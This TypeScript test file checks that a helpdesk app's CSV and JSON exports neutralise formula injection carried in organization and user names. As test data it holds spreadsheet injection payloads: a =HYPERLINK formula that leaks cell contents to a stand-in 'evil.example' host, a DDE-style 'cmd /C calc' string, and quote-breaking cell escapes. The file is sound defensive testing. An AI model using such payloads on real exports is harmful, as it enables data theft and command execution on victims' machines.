// Formula injection through the export watermark (S18; issue 9 item 12). An organization name with a
// line break and =HYPERLINK(…) used to become a live formula on line 2 of the CSV. Names now refuse
// control characters at every door, and the watermark is written as one quoted, neutralised CSV cell
// whatever the stored names hold (names stored earlier, or changed through another door).
import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/db/client";
import { organizations, users } from "@/db/schema";
import { runQueuedExports } from "@/domain/exports/run-export";
import { call, callJson } from "../support/api";
import { CSV_COLUMNS } from "@/domain/exports/export-writer";
import { parseCsv } from "../support/csv";
import { createOrg, signIn, type TestOrg } from "../support/factory";
import { createTicketAs } from "../support/tickets";

let org: TestOrg;
let admin = "";
const RANGE = { from: "2025-06-01", to: "2027-06-01" };
const FORMULA = /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

beforeAll(async () => {
  org = await createOrg("export-mark");
  admin = await signIn(org.admin);
  await createTicketAs(await signIn(org.requester), { title: "A ticket to export" });
});

async function exportText(format: "csv" | "json"): Promise<string> {
  const started = await callJson("POST", "/api/exports", { cookie: admin, body: { format, ...RANGE } });
  expect(started.status, JSON.stringify(started.body)).toBe(202);
  await runQueuedExports();
  const status = await callJson("GET", `/api/exports/${started.body.id}`, { cookie: admin });
  expect(status.body.status).toBe("done");
  return (await call("GET", status.body.download.url, { cookie: admin })).text();
}

describe("the export watermark cannot carry a formula (issue 9 item 12)", () => {
  it("organization, team and user names with control characters are refused at the API", async () => {
    for (const name of ['Acme\n=HYPERLINK("http://evil","x")', "Acme\r@SUM(1+1)", "Acme\t=1+1", "Acme\u0000"]) {
      expect((await callJson("PATCH", "/api/admin/organization", { cookie: admin, body: { name } })).status, JSON.stringify(name)).toBe(400);
      expect((await callJson("POST", "/api/admin/teams", { cookie: admin, body: { name } })).status, JSON.stringify(name)).toBe(400);
      expect(
        (await callJson("POST", "/api/admin/users/invites", { cookie: admin, body: { name, email: `x${Date.now()}@${org.slug}.test`, role: "agent" } })).status,
        JSON.stringify(name),
      ).toBe(400);
    }
  });

  // Names as they may already be stored (written before this check, or through another door).
  const hostile: [string, string, string][] = [
    ["a newline then =HYPERLINK in the organization name", 'Acme\n=HYPERLINK("http://evil.example/?leak="&A3,"Click")', "Ada"],
    ["a CR then @SUM", "Acme\r@SUM(1+1)*cmd|' /C calc'!A0", "Ada"],
    ["a comma that would open a second cell", 'Acme,=HYPERLINK("http://evil")', "Ada"],
    ["a leading = / + / - in the organization name", "=1+1", "+cmd"],
    ["a tab and a leading - in the user's name", "Acme", '\t-2+3\n=HYPERLINK("http://evil")'],
    ["quotes that try to close the cell", 'Acme"\n,=1+1,"', "Ada"],
  ];
  for (const [label, orgName, userName] of hostile) {
    it(`CSV: ${label} stays inside one neutral cell`, async () => {
      await db().update(organizations).set({ name: orgName }).where(eq(organizations.id, org.id));
      await db().update(users).set({ name: userName }).where(eq(users.id, org.admin.id));
      const text = await exportText("csv");
      const lines = text.split(/\r?\n/);
      // Line 1 is the header (a spreadsheet imports a table), the first row the watermark (issue 13):
      // nothing from a name spills onto its own line or into another cell.
      expect(lines[0]).toBe(CSV_COLUMNS.join(","));
      const rows = parseCsv(text);
      for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
      const mark = rows[1]!;
      expect(mark[0]).toBe("watermark");
      expect(mark[CSV_COLUMNS.indexOf("body")]).toMatch(/^# Helpdesk export /);
      expect(mark[CSV_COLUMNS.indexOf("body")]).toContain(`(${org.id})`);
      // No cell anywhere starts like a formula, and no physical line does either.
      for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA);
      for (const line of lines) expect(line, JSON.stringify(line)).not.toMatch(FORMULA);
    });
  }

  it("JSON: the watermark is plain JSON with the names made single-line", async () => {
    await db().update(organizations).set({ name: 'Acme\n=HYPERLINK("http://evil")' }).where(eq(organizations.id, org.id));
    await db().update(users).set({ name: "Ada\r\n@cmd" }).where(eq(users.id, org.admin.id));
    const data = JSON.parse(await exportText("json"));
    expect(data.watermark.organization.name).toBe('Acme =HYPERLINK("http://evil")');
    expect(data.watermark.exportedBy.name).toBe("Ada @cmd");
  });
});
